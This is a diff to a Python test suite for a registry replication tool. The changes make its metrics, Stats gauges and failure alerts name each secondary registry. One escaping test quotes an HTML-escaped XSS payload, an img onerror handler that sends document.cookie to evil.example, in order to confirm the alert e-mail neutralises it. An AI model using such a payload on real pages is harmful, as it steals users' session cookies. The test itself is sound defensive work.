@@ -89,6 +89,9 @@ def app(store, airflow_db):
     return TestClient(create_app(store))
 
 
+HERE = (("secondary", "registry_secondary"),)  # the one secondary's series
+
+
 def scrape(app: TestClient) -> dict[tuple[str, tuple[tuple[str, str], ...]], float]:
     response = app.get("/metrics", headers={"Authorization": f"Bearer {METRICS_TOKEN}"})
     assert response.status_code == 200, response.text
@@ -172,14 +175,23 @@ def test_metrics_after_pushes_a_failed_layer_and_a_reconcile(
     assert run("registry_sync", {"repositories": ["group/ok"]}).state == "success"
 
     m = scrape(app)
-    assert m[("registry_replication_events_pending", ())] == 1  # group/new:v1
-    assert m[("registry_replication_oldest_pending_event_age_seconds", ())] > 0
-    assert {k[1][0][1]: v for k, v in m.items() if k[0] == "registry_replication_events_total"} == {
-        "done": 2,
-        "failed": 1,
-        "rejected": 1,
+    on = HERE  # every per-secondary series names its secondary
+    assert m[("registry_replication_events_pending", on)] == 1  # group/new:v1
+    assert m[("registry_replication_oldest_pending_event_age_seconds", on)] > 0
+    assert {
+        tuple(dict(k[1]).values()): v
+        for k, v in m.items()
+        if k[0] == "registry_replication_events_total"
+    } == {
+        ("done", "registry_secondary"): 2,
+        ("failed", "registry_secondary"): 1,
+        ("rejected", ""): 1,  # no secondary's
     }
-    assert {k[1][0][1]: v for k, v in m.items() if k[0] == "registry_replication_repositories"} == {
+    assert {
+        dict(k[1])["state"]: v
+        for k, v in m.items()
+        if k[0] == "registry_replication_repositories" and dict(k[1])["secondary"] == on[0][1]
+    } == {
         "synced": 2,
         "pending": 0,
         "failed": 1,
@@ -187,10 +199,10 @@ def test_metrics_after_pushes_a_failed_layer_and_a_reconcile(
         "never": 0,
     }
     # The repositories replicated whole by their first run count as verified at blobs.
-    assert {
-        k[1][0][1] for k in m if k[0] == "registry_replication_last_verified_timestamp_seconds"
-    } == {"blobs"}
-    assert {k[1][0][1]: v for k, v in m.items() if k[0] == "registry_replication_tags"} == {
+    assert {k[1] for k in m if k[0] == "registry_replication_last_verified_timestamp_seconds"} == {
+        (("level", "blobs"), *on)
+    }
+    assert {dict(k[1])["side"]: v for k, v in m.items() if k[0] == "registry_replication_tags"} == {
         "primary": 4,
         "secondary": 3,
     }
@@ -200,7 +212,7 @@ def test_metrics_after_pushes_a_failed_layer_and_a_reconcile(
         b.size for img in (ok, broken, new) for b in img.blobs if b.digest != rotten.digest
     )
     assert copied > sum(b.size for b in missing) > 0
-    assert m[("registry_replication_bytes_copied_total", ())] == copied
+    assert m[("registry_replication_bytes_copied_total", on)] == copied
     last_success = {
         k[1][0][1]: v
         for k, v in m.items()
@@ -209,16 +221,16 @@ def test_metrics_after_pushes_a_failed_layer_and_a_reconcile(
     assert list(last_success) == ["registry_sync"]  # the events run and the reconcile failed
     assert time.time() - 120 < last_success["registry_sync"] <= time.time()
     # Two events acknowledged, each between its push and the scrape.
-    assert m[("registry_replication_push_to_replica_seconds_count", ())] == 2
-    assert 0 < m[("registry_replication_push_to_replica_seconds_sum", ())] < 120
-    assert m[("registry_replication_push_to_replica_seconds_bucket", (("le", "+Inf"),))] == 2
-    assert m[("registry_replication_push_to_replica_seconds_bucket", (("le", "3600.0"),))] == 2
+    assert m[("registry_replication_push_to_replica_seconds_count", on)] == 2
+    assert 0 < m[("registry_replication_push_to_replica_seconds_sum", on)] < 120
+    assert m[("registry_replication_push_to_replica_seconds_bucket", (("le", "+Inf"), *on))] == 2
+    assert m[("registry_replication_push_to_replica_seconds_bucket", (("le", "3600.0"), *on))] == 2
 
     # Every API server reports the same: a second app over the same store.
     from registry_replication.airflow.status_page import create_app
 
     again = scrape(TestClient(create_app(Store(store.url))))
-    age = ("registry_replication_oldest_pending_event_age_seconds", ())
+    age = ("registry_replication_oldest_pending_event_age_seconds", on)
     assert again.pop(age) >= m.pop(age) and again == m
 
     # The same figures went to Airflow's Stats from the tasks (the sync's report sent last).
@@ -227,11 +239,11 @@ def test_metrics_after_pushes_a_failed_layer_and_a_reconcile(
         for kind, stat, value, tags in stats.sent
         if kind == "gauge"
     }
-    assert gauges[("registry_replication.events_pending", ())] == 1
+    assert gauges[("registry_replication.events_pending", on)] == 1
     assert gauges[("registry_replication.events_total", (("outcome", "rejected"),))] == 1
-    assert gauges[("registry_replication.repositories", (("state", "failed"),))] == 1
-    assert gauges[("registry_replication.tags", (("side", "secondary"),))] == 3
-    assert gauges[("registry_replication.bytes_copied_total", ())] == copied
+    assert gauges[("registry_replication.repositories", (*on, ("state", "failed")))] == 1
+    assert gauges[("registry_replication.tags", (*on, ("side", "secondary")))] == 3
+    assert gauges[("registry_replication.bytes_copied_total", on)] == copied
     assert (
         sum(
             count
@@ -264,7 +276,7 @@ def test_bytes_copied_counts_the_event_path(
     writer = RegistryClient(primary.client_config(), writable=True)
     factory = images.ImageFactory(layer_size=48 * 1024)
     first, second = factory.make(unique_layers=2), factory.make(unique_layers=1)
-    assert scrape(app)[("registry_replication_bytes_copied_total", ())] == 0
+    assert scrape(app)[("registry_replication_bytes_copied_total", HERE)] == 0
 
     images.push(writer, "group/app", first, ["v1"])
     wait_for_events(store, {"v1"})
@@ -273,7 +285,7 @@ def test_bytes_copied_counts_the_event_path(
     manifest = json.loads(skopeo_raw(secondary, "group/app", "v1"))
     declared = manifest["config"]["size"] + sum(layer["size"] for layer in manifest["layers"])
     assert len(manifest["layers"]) == 4 and declared > 4 * 48 * 1024
-    assert scrape(app)[("registry_replication_bytes_copied_total", ())] == declared
+    assert scrape(app)[("registry_replication_bytes_copied_total", HERE)] == declared
 
     # A second image on the same base: only its own config and top layer cross.
     images.push(writer, "group/app", second, ["v2"])
@@ -282,7 +294,7 @@ def test_bytes_copied_counts_the_event_path(
     manifest = json.loads(skopeo_raw(secondary, "group/app", "v2"))
     own = manifest["config"]["size"] + manifest["layers"][-1]["size"]
     m = scrape(app)
-    assert m[("registry_replication_bytes_copied_total", ())] == declared + own
+    assert m[("registry_replication_bytes_copied_total", HERE)] == declared + own
     assert (
         sum(
             count
@@ -326,8 +338,9 @@ def test_a_report_prunes_the_store_history_and_the_counters_hold(
         conn.execute(events.update().values(updated_at=long_ago))
         conn.execute(deliveries.update().values(updated_at=long_ago))
     before = scrape(app)
-    assert before[("registry_replication_bytes_copied_total", ())] == 12345
-    assert before[("registry_replication_events_total", (("outcome", "done"),))] == 1
+    done = ("registry_replication_events_total", (("outcome", "done"), *HERE))
+    assert before[("registry_replication_bytes_copied_total", HERE)] == 12345
+    assert before[done] == 1
 
     img = images.ImageFactory(layer_size=16 * 1024).make()
     images.push(primary_writer, "group/app", img, ["v1"])
@@ -346,10 +359,10 @@ def test_a_report_prunes_the_store_history_and_the_counters_hold(
             sum(b.size for b in img.blobs)
         ]
     after = scrape(app)
-    assert after[("registry_replication_bytes_copied_total", ())] == 12345 + sum(
+    assert after[("registry_replication_bytes_copied_total", HERE)] == 12345 + sum(
         b.size for b in img.blobs
     )
-    assert after[("registry_replication_events_total", (("outcome", "done"),))] == 1
+    assert after[done] == 1  # carried as registry_secondary's
 
 
 def test_retention_is_a_teardown_after_the_report_and_the_graph_shows_the_reports_inputs(
@@ -449,8 +462,13 @@ def test_notifier_on_failure_and_on_recovery_only(
     failed = run("registry_reconcile", {"prune": False})
     assert failed.state == "failed"
     [alert] = RecordingNotifier.calls
-    assert alert["subject"] == "[registry-replication] registry_reconcile failed"
-    assert f"Failed layer: group/app@{rotten.digest} (DIGEST_INVALID)" in alert["message"]
+    assert alert["subject"] == (
+        "[registry-replication] registry_reconcile failed on registry_secondary"
+    )
+    assert (
+        f"registry_secondary: failed layer group/app@{rotten.digest} (DIGEST_INVALID)"
+        in alert["message"]
+    )
     assert alert["run_id"] == failed.run_id
     assert (
         f"/dags/registry_reconcile/runs/{failed.run_id.replace(':', '%3A').replace('+', '%2B')}"
@@ -463,7 +481,7 @@ def test_notifier_on_failure_and_on_recovery_only(
     assert recovered.state == "success"
     assert secondary_reader.head_manifest("group/app", "v1").digest == img.digest
     assert [c["subject"] for c in RecordingNotifier.calls] == [
-        "[registry-replication] registry_reconcile failed",
+        "[registry-replication] registry_reconcile failed on registry_secondary",
         "[registry-replication] registry_reconcile recovered",
     ]
     assert RecordingNotifier.calls[1]["run_id"] == recovered.run_id
@@ -559,7 +577,86 @@ def test_the_alert_e_mail_example_escapes_what_registries_wrote(store, monkeypat
     assert message.startswith("<pre>[registry-replication] registry_events failed\n")
     assert message.endswith("</pre>") and message.count("<") == 2  # <pre> and </pre> alone
     assert (
-        "Failed event: push group/app:v1: get manifest: HTTP 400 MANIFEST_INVALID: "
+        "registry_secondary: failed event push group/app:v1: get manifest: HTTP 400 MANIFEST_INVALID: "
         "&lt;img src=x onerror=&#34;fetch(&#39;//evil.example/&#39;+document.cookie)&#34;&gt; "
         "&amp; &lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;"
     ) in message
+
+
+def test_an_alert_and_the_stats_name_each_secondary(store, monkeypatch, stats):
+    """Two secondaries, a reconcile that failed on registry_eu only: the subject names it, each
+    line starts with its secondary, and Airflow's ``Stats`` gauges carry the ``secondary`` tag."""
+    from registry_replication.airflow import alerts
+
+    monkeypatch.setenv(
+        "AIRFLOW__REGISTRY_REPLICATION__SECONDARY_CONN_IDS", "registry_secondary,registry_eu"
+    )
+    digest = "sha256:" + "d" * 64
+    store.history.record_run(
+        "registry_reconcile",
+        "manual__1",
+        "failed",
+        {"problems": ["registry_eu: 1 failed blobs"]},
+        [
+            {
+                "repository": "group/app",
+                "digest": digest,
+                "code": "BLOB_UPLOAD_INVALID",
+                "error": "HTTP 400 from the secondary",
+                "task_id": "registry_eu.copy_blobs",
+                "map_index": 0,
+                "secondary": "registry_eu",
+            }
+        ],
+    )
+    store.state.set_repository_state(
+        "registry_eu", [{"repository": "group/app", "state": "failed", "last_error": "HTTP 400"}]
+    )
+    store.state.set_repository_state(
+        "registry_secondary", [{"repository": "group/app", "state": "synced"}]
+    )
+    store.queue.add(
+        [Event("e1", "push", "group/app", "v1", None, None, dt.datetime.now(dt.UTC))],
+        ["registry_secondary", "registry_eu"],
+    )
+    owner, _ = store.queue.claim("registry_eu")
+    store.queue.fail("registry_eu", owner, ["e1"], "HTTP 400 MANIFEST_INVALID")
+
+    alert = alerts.describe(alerts.FAILED, "registry_reconcile", "manual__1", store)
+    assert alert["subject"] == "[registry-replication] registry_reconcile failed on registry_eu"
+    assert alert["text"].splitlines()[1:-1] == [
+        "Problems: registry_eu: 1 failed blobs",
+        f"registry_eu: failed layer group/app@{digest} (BLOB_UPLOAD_INVALID): "
+        "HTTP 400 from the secondary",
+        "registry_eu: failing repositories: group/app",
+        "registry_eu: failed event push group/app:v1: HTTP 400 MANIFEST_INVALID",
+    ]
+
+    alerts.send_stats(store)
+    gauges = {
+        (stat, tuple(tags.items())): value
+        for kind, stat, value, tags in stats.sent
+        if kind == "gauge"
+    }
+    assert gauges[("registry_replication.events_pending", (("secondary", "registry_eu"),))] == 0
+    assert (
+        gauges[("registry_replication.events_pending", (("secondary", "registry_secondary"),))] == 1
+    )
+    assert (
+        gauges[
+            (
+                "registry_replication.repositories",
+                (("secondary", "registry_eu"), ("state", "failed")),
+            )
+        ]
+        == 1
+    )
+    assert (
+        gauges[
+            (
+                "registry_replication.repositories",
+                (("secondary", "registry_secondary"), ("state", "synced")),
+            )
+        ]
+        == 1
+    )
